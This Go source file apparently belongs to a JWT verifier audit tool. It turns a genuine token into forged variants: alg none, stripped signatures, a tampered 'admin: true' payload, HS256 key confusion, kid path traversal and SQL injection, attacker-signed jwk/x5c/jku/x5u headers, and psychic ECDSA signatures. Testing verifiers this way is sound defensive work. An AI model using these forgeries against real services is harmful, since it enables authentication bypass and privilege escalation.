package forge

import (
	"bytes"
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"strconv"
	"strings"
	"time"
)

// Variant is one forged token made from a genuine one by Forge.
type Variant struct {
	// Name is stable across runs and releases, for selecting variants by name; where the attack
	// is one of the corpus's cases, it is that case's name.
	Name string
	// Title says in one line what the token is.
	Title string
	// Cite is the RFC section, CVE or advisory the attack comes from.
	Cite string
	// Token is the forged token, carrying the genuine token's claims.
	Token string
	// Family groups variants that are one attack in several spellings or key forms:
	// "alg-none", "signature", "confusion", "kid", "header-key", "header-url", "psychic".
	Family string
	// Fetch is "jku" or "x5u" when the forgery can only succeed if the verifier fetches the URL
	// the token names (Options.KeyURL); empty otherwise.
	Fetch string

	rebuild func(payload string) (string, error)
}

// WithClaims makes the same forgery over other claims (exact JSON), to learn whether a verifier
// that accepts the forgery also checks those claims.
func (v Variant) WithClaims(payload string) (string, error) { return v.rebuild(payload) }

// PublicKey is one of the service's published verification keys, for the key-confusion
// variants.
type PublicKey struct {
	// Kid is the key's id, put in the forged header when not empty.
	Kid string
	// Key is an *rsa.PublicKey or *ecdsa.PublicKey; other keys are passed over.
	Key crypto.PublicKey
	// JWK is the key's JWK exactly as published, when it came from a JWK Set.
	JWK []byte
}

// Attacker holds the keys forged tokens are signed with when a forgery needs a signature: a
// P-256 key, its JWK Set and a self-signed certificate for it.
type Attacker struct {
	// Key signs the embedded-jwk, jku, x5u and x5c variants.
	Key *ecdsa.PrivateKey
	// Cert is a self-signed certificate (DER) for Key.
	Cert []byte
}

// AttackerKid is the kid of the attacker's key in its JWK Set.
const AttackerKid = "attacker-1"

// NewAttacker makes a fresh attacker key and certificate.
func NewAttacker(now time.Time) (*Attacker, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, fmt.Errorf("generating the attacker's key: %w", err)
	}
	cert, err := SelfSignedCert(key, now)
	if err != nil {
		return nil, err
	}
	return &Attacker{Key: key, Cert: cert}, nil
}

// JWKS is the attacker's public JWK Set, as a jku listener serves it.
func (a *Attacker) JWKS() []byte {
	return []byte(compactJSON(map[string]any{"keys": []any{ecJWK(&a.Key.PublicKey, AttackerKid)}}))
}

// CertPEM is the attacker's certificate as PEM, as an x5u listener serves it.
func (a *Attacker) CertPEM() []byte {
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: a.Cert})
}

// Paths under Options.KeyURL that jku and x5u variants name.
const (
	JKUPath = "/jwks.json"
	X5UPath = "/cert.pem"
)

// Options are what Forge makes the variants with.
type Options struct {
	// PublicKeys are the service's verification keys, for the key-confusion variants.
	PublicKeys []PublicKey
	// KeySet is the service's JWK Set document as published, tried whole as an HMAC key.
	KeySet []byte
	// Attacker signs the variants that carry or point at a key; required.
	Attacker *Attacker
	// KeyURL is the base URL of a listener serving the attacker's JWKS at JKUPath and
	// certificate at X5UPath; empty leaves the jku and x5u variants out.
	KeyURL string
}

// Genuine is a compact JWS split into the parts forgeries are made from.
type Genuine struct {
	// Token is the compact token.
	Token string
	// Header is the protected header.
	Header Object
	// Payload is the claims JSON exactly as signed.
	Payload string
	// Claims is the payload as an Object.
	Claims Object
}

// ParseGenuine splits a compact JWS whose header and payload are JSON objects.
func ParseGenuine(token string) (Genuine, error) {
	p := parts(token)
	if len(p) != 3 {
		return Genuine{}, fmt.Errorf("a compact JWS has 3 segments, this token has %d", len(p))
	}
	hdr, err := base64.RawURLEncoding.DecodeString(p[0])
	if err != nil {
		return Genuine{}, fmt.Errorf("header: %w", err)
	}
	pay, err := base64.RawURLEncoding.DecodeString(p[1])
	if err != nil {
		return Genuine{}, fmt.Errorf("payload: %w", err)
	}
	h, err := ParseObject(hdr)
	if err != nil {
		return Genuine{}, fmt.Errorf("header: %w", err)
	}
	c, err := ParseObject(pay)
	if err != nil {
		return Genuine{}, fmt.Errorf("payload: %w", err)
	}
	return Genuine{Token: token, Header: h, Payload: string(pay), Claims: c}, nil
}

// Forge makes every forged variant of the genuine token that the corpus knows and that the
// options allow: alg none in four casings, alg none keeping the signature, the signature
// stripped, the payload edited under the genuine signature, RS/ES→HS256 key confusion with
// each public key in each byte form, kid path traversal and SQL injection, the embedded jwk,
// x5c, jku and x5u pointing at the listener, and psychic ECDSA signatures. Every variant
// carries the genuine claims; none is signed by a key the service trusts.
func Forge(g Genuine, opts Options) ([]Variant, error) {
	if opts.Attacker == nil {
		return nil, errors.New("forging needs an attacker key")
	}
	var vs []Variant
	add := func(name, title, cite, fetch string, build func(payload string) (string, error)) error {
		tok, err := build(g.Payload)
		if err != nil {
			return fmt.Errorf("forging %s: %w", name, err)
		}
		vs = append(vs, Variant{Name: name, Title: title, Cite: cite, Token: tok, Family: family(name), Fetch: fetch, rebuild: build})
		return nil
	}
	noErr := func(f func(string) string) func(string) (string, error) {
		return func(p string) (string, error) { return f(p), nil }
	}
	h := g.Header
	for _, none := range []string{"none", "None", "NONE", "nOnE"} {
		if err := add("alg-none-"+caseName(none), "alg "+none+" with an empty signature", CiteNone+"; "+CiteNoneCVE, "",
			noErr(func(p string) string { return Unsigned(h, p, none) })); err != nil {
			return nil, err
		}
	}
	sig := parts(g.Token)[2]
	steps := []struct {
		name, title, cite string
		build             func(string) (string, error)
	}{
		{"alg-none-with-signature", "alg none carrying the genuine signature", CiteNone,
			noErr(func(p string) string { return UnsignedWithSignature(h, p, "none", sig) })},
		{"signature-stripped", "the genuine header and claims with the signature removed", CiteTamper,
			noErr(func(p string) string { return seg(h.JSON()) + "." + seg(p) + "." })},
		{"tampered-payload", "claims edited (admin: true added) under the genuine header and signature", CiteTamper,
			func(p string) (string, error) {
				if p == g.Payload {
					c := g.Claims.With("admin", true)
					p = c.JSON()
				}
				return ReplacePayload(g.Token, p)
			}},
	}
	for _, s := range steps {
		if err := add(s.name, s.title, s.cite, "", s.build); err != nil {
			return nil, err
		}
	}
	for i, pk := range opts.PublicKeys {
		suffix := ""
		if len(opts.PublicKeys) > 1 {
			suffix = "-k" + strconv.Itoa(i+1)
		}
		forms, err := confusionForms(pk)
		if err != nil {
			return nil, err
		}
		base := h
		if pk.Kid != "" {
			base = base.With("kid", pk.Kid)
		}
		for _, f := range forms {
			secret := f.bytes
			if err := add("confusion-hs256-"+f.name+suffix, "HS256 tagged with the public key"+kidNote(pk.Kid)+" as "+f.title, CiteConfusion, "",
				noErr(func(p string) string { return HMAC(base, p, "HS256", secret) })); err != nil {
				return nil, err
			}
		}
	}
	if len(opts.KeySet) > 0 {
		set := opts.KeySet
		if err := add("confusion-hs256-jwks", "HS256 tagged with the whole published JWK Set", CiteConfusion, "",
			noErr(func(p string) string { return HMAC(h, p, "HS256", set) })); err != nil {
			return nil, err
		}
	}
	for _, k := range PathTraversalKids {
		kid := k.Kid
		if err := add(k.Name, "HS256 with kid "+kid+", tagged with an empty key", CiteKid, "",
			noErr(func(p string) string { return HMAC(h.With("kid", kid), p, "HS256", nil) })); err != nil {
			return nil, err
		}
	}
	if err := add("kid-sql-injection", "HS256 whose kid is an SQL UNION selecting the attacker's secret", CiteKid, "",
		noErr(func(p string) string {
			return HMAC(h.With("kid", SQLInjectionKid), p, "HS256", []byte(SQLInjectionSecret))
		})); err != nil {
		return nil, err
	}
	atk := opts.Attacker
	if err := add("embedded-jwk", "ES256 signed by the attacker, carrying the attacker's key in jwk", CiteEmbeddedJWK, "",
		func(p string) (string, error) { return EmbeddedJWK(h.Without("kid"), p, atk.Key, "") }); err != nil {
		return nil, err
	}
	if kid, ok := h.String("kid"); ok && kid != "" {
		if err := add("embedded-jwk-victim-kid", "ES256 signed by the attacker, naming the genuine kid and embedding its own key under it", CiteEmbeddedJWK, "",
			func(p string) (string, error) { return EmbeddedJWK(h, p, atk.Key, kid) }); err != nil {
			return nil, err
		}
	}
	if err := add("x5c-self-signed", "ES256 signed by the attacker, carrying its self-signed certificate in x5c", "RFC 7515 §4.1.6: the certificate chain must be validated", "",
		func(p string) (string, error) { return X5C(h.Without("kid"), p, atk.Key, atk.Cert) }); err != nil {
		return nil, err
	}
	if opts.KeyURL != "" {
		base := strings.TrimSuffix(opts.KeyURL, "/")
		if err := add("jku-elsewhere", "ES256 signed by the attacker, jku naming the attacker's JWK Set (audit's own listener)", CiteHeaderKeys+"; RFC 7515 §4.1.2", "jku",
			func(p string) (string, error) {
				return Sign(h.With("alg", "ES256").With("kid", AttackerKid).With("jku", base+JKUPath), p, atk.Key)
			}); err != nil {
			return nil, err
		}
		if err := add("x5u-elsewhere", "ES256 signed by the attacker, x5u naming the attacker's certificate (audit's own listener)", CiteHeaderKeys+"; RFC 7515 §4.1.5", "x5u",
			func(p string) (string, error) {
				return Sign(h.Without("kid").With("alg", "ES256").With("x5u", base+X5UPath), p, atk.Key)
			}); err != nil {
			return nil, err
		}
	}
	for _, alg := range []string{"ES256", "ES384", "ES512"} {
		if err := add("ecdsa-psychic-"+strings.ToLower(alg), alg+" with the signature r = s = 0", CitePsychic, "",
			func(p string) (string, error) { return Psychic(h, p, alg) }); err != nil {
			return nil, err
		}
	}
	if err := add("ecdsa-r-s-equal-order", "ES256 with r = s = n, the curve order", CitePsychic, "",
		noErr(func(p string) string { return PsychicOrder(h, p) })); err != nil {
		return nil, err
	}
	return vs, nil
}

// family is the Family of a variant by its name.
func family(name string) string {
	for _, f := range []struct{ prefix, family string }{
		{"alg-none-", "alg-none"}, {"signature-", "signature"}, {"tampered-", "signature"},
		{"confusion-", "confusion"}, {"kid-", "kid"}, {"embedded-jwk", "header-key"}, {"x5c-", "header-key"},
		{"jku-", "header-url"}, {"x5u-", "header-url"}, {"ecdsa-", "psychic"},
	} {
		if strings.HasPrefix(name, f.prefix) {
			return f.family
		}
	}
	return name
}

func kidNote(kid string) string {
	if kid == "" {
		return ""
	}
	return " " + strconv.Quote(kid)
}

type keyForm struct {
	name, title string
	bytes       []byte
}

// confusionForms are the byte forms of a public key that verifiers have been seen to use as an
// HMAC secret: the PEM file as published (with and without its final newline), the DER, the
// PKCS#1 PEM of an RSA key, and the JWK.
func confusionForms(pk PublicKey) ([]keyForm, error) {
	der, err := x509.MarshalPKIXPublicKey(pk.Key)
	if err != nil {
		return nil, fmt.Errorf("encoding the public key%s: %w", kidNote(pk.Kid), err)
	}
	pemBytes := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
	forms := []keyForm{
		{"pem", "PKIX PEM", pemBytes},
		{"pem-no-newline", "PKIX PEM without its final newline", trimNewline(pemBytes)},
		{"der", "PKIX DER", der},
	}
	var jwk []byte
	switch k := pk.Key.(type) {
	case *rsa.PublicKey:
		forms = append(forms, keyForm{"pkcs1-pem", "PKCS#1 PEM", pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: x509.MarshalPKCS1PublicKey(k)})})
		jwk = []byte(compactJSON(rsaJWK(k, pk.Kid)))
	case *ecdsa.PublicKey:
		jwk = []byte(compactJSON(ecJWK(k, pk.Kid)))
	default:
		return nil, fmt.Errorf("key%s is a %T, not RSA or EC", kidNote(pk.Kid), pk.Key)
	}
	if len(pk.JWK) > 0 {
		var compact bytes.Buffer
		if json.Compact(&compact, pk.JWK) == nil {
			jwk = compact.Bytes()
		}
	}
	return append(forms, keyForm{"jwk", "its JWK JSON", jwk}), nil
}

// caseName turns an algorithm spelling into a file-name part that keeps the casing visible.
func caseName(alg string) string {
	switch alg {
	case "none":
		return "lower"
	case "None":
		return "capitalised"
	case "NONE":
		return "upper"
	}
	return "mixed"
}
